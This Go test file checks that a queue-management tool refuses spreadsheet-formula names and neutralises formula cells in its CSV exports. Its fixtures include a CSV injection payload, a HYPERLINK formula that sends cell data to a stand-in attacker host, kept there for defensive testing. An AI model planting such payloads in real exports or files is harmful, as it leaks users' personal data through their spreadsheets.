package main

import (
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"github.com/loket-id/loket/internal/csvsafe"
	"github.com/loket-id/loket/store"
)

// formulaNames are names a spreadsheet would run as formulas.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?d="&H2,"Klik")`,
	"+1+1",
	"-2+3",
	"@SUM(1+1)",
	"  =1+1", // trimmed first
}

// TestAddRefusesFormulaNames: a name beginning with = + - @ is refused at
// registration with exit 2, and nothing is written.
func TestAddRefusesFormulaNames(t *testing.T) {
	te := newTestEnv(t)
	for _, name := range formulaNames {
		out, errOut, code := te.run("add", "--service", "A", "--name", name, "--nik", nik)
		if code != 2 || !strings.Contains(errOut, "name: must not begin with") || out != "" {
			t.Errorf("add --name %q: exit %d, stdout %q, stderr %q; want exit 2 naming the name", name, code, out, errOut)
		}
	}
	if out := te.mustRun("list"); out != "no requests\n" {
		t.Fatalf("a refused name was registered:\n%s", out)
	}
	// A name with those characters inside is fine.
	te.mustRun("add", "--service", "A", "--name", "Siti = Aminah-Putri", "--nik", nik)
}

// legacyName rewrites, in the requests bucket of a closed database, every
// JSON occurrence of placeholder to name: a request registered before
// names were checked for formulas.
func legacyName(t *testing.T, dbPath, placeholder, name string) {
	t.Helper()
	db, err := bolt.Open(dbPath, 0o600, &bolt.Options{Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	// The name is in the store's personal records (store/codec.go): a
	// one-byte length (names are shorter than 128 bytes), then the bytes.
	from := append([]byte{byte(len(placeholder))}, placeholder...)
	to := append([]byte{byte(len(name))}, name...)
	n := 0
	err = db.Update(func(tx *bolt.Tx) error {
		// Personal records: <seq>p in events, e<seq>p in journal since
		// the last merge (store/eventlog.go).
		for _, bucket := range []struct {
			name string
			klen int
		}{{"events", 9}, {"journal", 10}} {
			b := tx.Bucket([]byte(bucket.name))
			type kv struct{ k, v []byte }
			var changed []kv
			if err := b.ForEach(func(k, v []byte) error {
				if s := string(v); len(k) == bucket.klen && k[len(k)-1] == 'p' && strings.Contains(s, string(from)) {
					changed = append(changed, kv{append([]byte(nil), k...), []byte(strings.ReplaceAll(s, string(from), string(to)))})
				}
				return nil
			}); err != nil {
				return err
			}
			for _, c := range changed {
				if err := b.Put(c.k, c.v); err != nil {
					return err
				}
				n++
			}
		}
		return nil
	})
	if err != nil || n == 0 {
		t.Fatalf("rewrite %q to %q in %s: %d requests, %v", placeholder, name, dbPath, n, err)
	}
}

// csvCells parses out and checks that no cell would run as a formula.
func csvCells(t *testing.T, what, out string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", what, err, out)
	}
	for i, r := range rows {
		for j, c := range r {
			if csvsafe.NeedsQuote(c) {
				t.Errorf("%s: row %d column %d = %q would run as a formula", what, i, j, c)
			}
		}
	}
	return rows
}

func column(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	for i, c := range rows[0] {
		if c == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, rows[0])
	return -1
}

// TestCSVNeutralisesFormulas: every CSV loket writes (export, list, find,
// stats) puts a single quote before a cell that a spreadsheet would run,
// also for names stored before registration refused them, and leaves
// numbers as numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	te := newTestEnv(t)
	te.now = func() time.Time { return fixedNow }
	const placeholder = "Legacy Placeholder"
	legacy := formulaNames[0]
	te.mustRun("add", "--service", "A", "--name", placeholder, "--nik", nik, "--phone", "0812 3456 7890", "--clerk", "@SUM(1+1)")
	te.now = func() time.Time { return fixedNow.Add(time.Minute) }
	te.mustRun("add", "--service", "A", "--name", "Siti Aminah", "--nik", "3578010101850002")
	te.now = func() time.Time { return fixedNow.Add(10 * time.Minute) }
	te.mustRun("call", "--clerk", "@SUM(1+1)", "--counter", "-2+3")
	legacyName(t, filepath.Join(te.env["LOKET_DATA"], store.FileName), placeholder, legacy)

	rows := csvCells(t, "export", te.mustRun("export", "--format", "csv", "--unmasked"))
	if len(rows) != 3 {
		t.Fatalf("export: %d rows", len(rows))
	}
	r := rows[1]
	for col, want := range map[string]string{
		"name": "'" + legacy, "nik": nik, "phone": "+6281234567890", "clerk": "'@SUM(1+1)", "counter": "'-2+3",
		"ticket": "A-001", "arrived_at": "2026-11-27T09:30:00+07:00", "called_at": "2026-11-27T09:40:00+07:00",
	} {
		if got := r[column(t, rows, col)]; got != want {
			t.Errorf("export %s = %q; want %q", col, got, want)
		}
	}
	if got := rows[2][column(t, rows, "name")]; got != "Siti Aminah" {
		t.Errorf("export of a plain name = %q", got)
	}
	// JSON is data, not a spreadsheet: the name as stored.
	var objs []map[string]string
	if err := json.Unmarshal([]byte(te.mustRun("export", "--format", "json")), &objs); err != nil || objs[0]["name"] != legacy {
		t.Errorf("export json name = %q, %v; want it as stored", objs[0]["name"], err)
	}

	for _, args := range [][]string{{"list", "--format", "csv"}, {"find", "legacy", "--format", "csv"}} {
		rows := csvCells(t, args[0], te.mustRun(args...))
		var r []string
		for _, row := range rows[1:] {
			if row[column(t, rows, "ticket")] == "A-001" {
				r = row
			}
		}
		if r == nil || r[column(t, rows, "name")] != "'"+legacy {
			t.Errorf("%s csv = %q", args[0], rows)
			continue
		}
		if w := r[column(t, rows, "wait_seconds")]; w != "600" {
			t.Errorf("%s wait_seconds = %q; want the number 600", args[0], w)
		}
	}

	for _, by := range []string{"clerk", "counter"} {
		out := te.mustRun("stats", "--format", "csv", "--by", by, "--from", "2026-11-27")
		rows := csvCells(t, "stats --by "+by, out)
		want := map[string]string{"clerk": "'@SUM(1+1)", "counter": "'-2+3"}[by]
		found := false
		for _, r := range rows[1:] {
			if r[0] == want {
				found = true
			}
			for j, c := range r[1:] {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("stats --by %s: %s = %q is not a number", by, rows[0][j+1], c)
				}
			}
		}
		if !found {
			t.Errorf("stats --by %s csv has no key %q:\n%s", by, want, out)
		}
	}
}
